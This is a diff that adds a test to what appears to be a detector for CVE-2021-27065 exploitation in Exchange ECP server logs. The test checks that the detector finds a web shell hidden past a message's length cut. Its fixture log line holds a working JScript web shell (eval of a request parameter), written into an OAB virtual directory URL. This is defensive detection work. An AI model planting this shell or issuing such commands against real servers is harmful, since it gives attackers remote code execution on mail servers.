@@ -97,6 +97,25 @@ test('CVE-2021-27065: Reset…VirtualDirectory with 200 and an ECP Set-OabVirtua
   }
 });
 
+test('CVE-2021-27065: a script in the URL parameter past the message\'s 1,000 characters is found in EventData (the ECP prefilter tests both)', async () => {
+  const tc = newCase();
+  try {
+    const ecpRel = `${EP_REL}/Logging/ECP/Server/ECPServer2021030301-1.LOG`;
+    // a long InternalUrl first: the event's message is cut before ExternalUrl, whose script only EventData still holds
+    const padding = `https://mail.contoso.com/${'a'.repeat(1200)}`;
+    await addLog(tc, ecpRel, 'ecp-server-log', parseEcpServer, [
+      '#Software: Microsoft Exchange Server', '#Version: 15.01.2176.002', '#Log-type: ECP Server Log', '#Date: 2021-03-03T00:00:00.000Z',
+      '#Fields: TimeStamp,ServerName,EventId,EventData',
+      `2021-03-03T01:21:00.000Z,EXCH01,AdminAction,"S:CMD=Set-OabVirtualDirectory.InternalUrl=''${padding}''.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""exec_code""],""unsafe"");}</script>''.Identity=''b3a6f2c1-e76e-4d31-9a5d-0f2b1f5c3c3e''"`,
+    ].join('\r\n') + '\r\n');
+    const message = tc.db.prepare("SELECT message FROM events WHERE source = 'ecp-server'").pluck().get() as string;
+    assert.equal(isMaliciousVdirCommand(message), false, 'the message alone no longer shows the script');
+    assert.deepEqual(checkCve202127065(tc.db).flatMap((f) => f.finding.evidence), [{ file: ecpRel, line: 6 }]);
+  } finally {
+    tc.close();
+  }
+});
+
 test('CVE-2021-26858: a temp file outside ClientAccess\\OAB fires; the OAB Temp twin does not', async () => {
   const tc = newCase();
   try {
